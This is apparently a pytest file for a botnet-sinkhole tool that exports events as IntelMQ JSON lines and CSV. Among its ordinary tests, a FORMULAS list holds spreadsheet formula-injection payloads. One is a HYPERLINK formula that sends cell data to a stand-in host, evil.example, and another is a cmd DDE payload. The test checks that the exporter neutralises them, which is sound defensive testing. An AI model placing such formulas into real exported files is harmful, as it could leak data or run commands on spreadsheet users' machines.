"""Recorded sinkhole events with IntelMQ field names, as JSON lines and CSV (the renderers
`botcensus events` writes with)."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json

import pyarrow as pa
import pytest

from botcensus.export import CSV_COLUMNS, event_renderer
from botcensus.export.events import unenriched
from botcensus.model import EVENT_COLUMNS, INTELMQ_CONSTANTS
from botcensus.store import events_table

BODY = bytes(range(96))


def _render(fmt, *rows):
    out = io.BytesIO()
    renderer = event_renderer(fmt)
    out.write(renderer.header())
    for batch in events_table(list(rows)).to_batches():
        renderer.write(unenriched(pa.Table.from_batches([batch])), "sinkhole", out)
    return out.getvalue().decode()


def _events(*rows):
    return [json.loads(line) for line in _render("intelmq", *rows).splitlines()]


def _rows(*rows):
    return list(rows)


def write_jsonl(rows, out):
    text = _render("intelmq", *rows)
    out.write(text)
    return len(text.splitlines())


def write_csv(rows, out):
    text = _render("intelmq-csv", *rows)
    out.write(text)
    return len(text.splitlines()) - 1


@pytest.fixture
def rustock(make_event):
    return make_event(
        source_ip="192.0.2.44",
        source_port=1234,
        destination_ip="198.51.100.7",
        destination_port=80,
        proxy_peer_ip="10.0.0.2",
        method="POST",
        host="cnc.example",
        path="/login.php",
        query="a=1",
        header_names=["Host", "Content-Length"],
        content_length=96,
        body_length=96,
        body_sha256=hashlib.sha256(BODY).digest(),
        body_head=BODY,
        malware_family="rustock",
        bot_id="bot-1",
        status=404,
    )


def test_event_uses_intelmq_names_and_constants(rustock):
    [event] = _events(rustock)
    assert event == {
        "time.source": "2011-03-16T00:00:00+00:00",
        **INTELMQ_CONSTANTS,
        "classification.identifier": "rustock",
        "source.ip": "192.0.2.44",
        "source.port": 1234,
        "destination.ip": "198.51.100.7",
        "destination.port": 80,
        "extra.proxy_peer_ip": "10.0.0.2",
        "extra.listener": "main",
        "extra.sensor": "sensor-1",
        "extra.http_method": "POST",
        "extra.http_host": "cnc.example",
        "extra.http_path": "/login.php",
        "extra.http_query": "a=1",
        "extra.user_agent": "curl/8",
        "extra.header_names": ["Host", "Content-Length"],
        "extra.content_length": 96,
        "extra.body_length": 96,
        "extra.body_truncated": False,
        "extra.body_sha256": hashlib.sha256(BODY).hexdigest(),
        "extra.body_head": base64.b64encode(BODY).decode("ascii"),
        "malware.name": "rustock",
        "extra.bot_id": "bot-1",
        "extra.http_status": 404,
    }


def test_constants_say_infected_system_from_the_sinkhole_feed(make_event):
    [event] = _events(make_event())
    assert event["classification.type"] == "infected-system"
    assert event["feed.name"] == "botcensus-sinkhole"


def test_absent_values_are_left_out(make_event):
    row = make_event(
        proxy_peer_ip=None, query=None, user_agent=None, header_names=[], body_head=b"", host=""
    )
    [event] = _events(row)
    for name in (
        "extra.proxy_peer_ip",
        "extra.http_query",
        "extra.user_agent",
        "extra.header_names",
        "extra.body_head",
        "extra.http_host",
        "malware.name",
        "extra.bot_id",
        "extra.reject_reason",
        "extra.content_length",
    ):
        assert name not in event


def test_zero_and_false_are_kept(make_event):
    [event] = _events(make_event(status=0, body_length=0, body_truncated=False))
    assert event["extra.http_status"] == 0
    assert event["extra.body_length"] == 0
    assert event["extra.body_truncated"] is False


def test_reject_reason_is_rendered(make_event):
    [event] = _events(make_event(status=400, reject_reason="malformed: bad"))
    assert event["extra.reject_reason"] == "malformed: bad"


def test_time_is_iso_8601_utc(make_event):
    [event] = _events(make_event(time_received=1_300_233_600_000_001))
    assert event["time.source"] == "2011-03-16T00:00:00.000001+00:00"


def test_events_from_several_batches_keep_their_order(make_event):
    out = io.BytesIO()
    for i in range(3):
        table = unenriched(events_table([make_event(path=f"/{i}")]))
        event_renderer("intelmq").write(table, "sinkhole", out)
    paths = [json.loads(line)["extra.http_path"] for line in out.getvalue().splitlines()]
    assert paths == ["/0", "/1", "/2"]


# -- JSON lines ------------------------------------------------------------------------------
def test_jsonl_writes_one_object_per_line(rustock, make_event):
    out = io.StringIO()
    assert write_jsonl(_rows(rustock, make_event()), out) == 2
    lines = out.getvalue().splitlines()
    assert [json.loads(line)["source.ip"] for line in lines] == ["192.0.2.44", "192.0.2.10"]


def test_jsonl_keeps_non_ascii_text(make_event):
    out = io.StringIO()
    write_jsonl(_rows(make_event(user_agent="Café/1.0")), out)
    assert "Café/1.0" in out.getvalue()


def test_jsonl_of_nothing_is_empty():
    out = io.StringIO()
    assert write_jsonl([], out) == 0
    assert out.getvalue() == ""


# -- CSV ---------------------------------------------------------------------------------------
def test_csv_columns_are_constants_then_every_event_column():
    assert CSV_COLUMNS[0] == "time.source"
    assert CSV_COLUMNS[1 : 1 + len(INTELMQ_CONSTANTS)] == tuple(INTELMQ_CONSTANTS)
    assert CSV_COLUMNS[1 + len(INTELMQ_CONSTANTS)] == "classification.identifier"
    assert len(CSV_COLUMNS) == len(EVENT_COLUMNS) + len(INTELMQ_CONSTANTS) + 1
    assert len(set(CSV_COLUMNS)) == len(CSV_COLUMNS)


def test_csv_header_row_is_the_columns(rustock):
    out = io.StringIO()
    write_csv(_rows(rustock), out)
    header = next(csv.reader(io.StringIO(out.getvalue())))
    assert tuple(header) == CSV_COLUMNS


def test_csv_row_values(rustock):
    out = io.StringIO()
    assert write_csv(_rows(rustock), out) == 1
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["malware.name"] == "rustock"
    assert row["extra.header_names"] == "Host Content-Length"
    assert row["extra.body_truncated"] == "False"
    assert row["extra.body_sha256"] == hashlib.sha256(BODY).hexdigest()
    assert row["extra.reject_reason"] == ""


def test_csv_of_nothing_is_only_the_header():
    out = io.StringIO()
    assert write_csv([], out) == 0
    assert out.getvalue() == ",".join(CSV_COLUMNS) + "\r\n"


def test_csv_quotes_values_with_commas(make_event):
    out = io.StringIO()
    write_csv(_rows(make_event(user_agent='a, "b"')), out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["extra.user_agent"] == 'a, "b"'


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(make_event, value):
    out = io.StringIO()
    write_csv(_rows(make_event(host=value, user_agent=value, bot_id=value)), out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    for name in ("extra.http_host", "extra.user_agent", "extra.bot_id"):
        assert row[name] == "'" + value


@pytest.mark.parametrize("value", ["a\rb", "a\r\nb,c", '"\r"'])
def test_csv_a_carriage_return_in_a_cell_cannot_split_the_row(make_event, value):
    out = io.StringIO()
    write_csv(_rows(make_event(user_agent=value), make_event(user_agent="ok")), out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert [len(r) for r in rows] == [len(CSV_COLUMNS)] * 3
    assert rows[1][CSV_COLUMNS.index("extra.user_agent")] == value


@pytest.mark.parametrize(
    "name", ['extra.a"b', "extra.back\\slash", "extra.new\nline", "extra.\u2028"]
)
def test_a_hostile_feed_column_name_stays_one_valid_json_key(name):
    """Feed reports name their own columns (kept as extra.<name>): whatever the name, the
    event stays one JSON line with that key."""
    from datetime import UTC, datetime

    table = pa.table(
        {
            "time_source": pa.array([datetime(2024, 5, 1, tzinfo=UTC)], pa.timestamp("us", "UTC")),
            name: pa.array(["value"]),
        }
    )
    out = io.BytesIO()
    event_renderer("intelmq").write(table, "feed", out)
    [line] = out.getvalue().decode().splitlines()
    assert json.loads(line)[name] == "value"
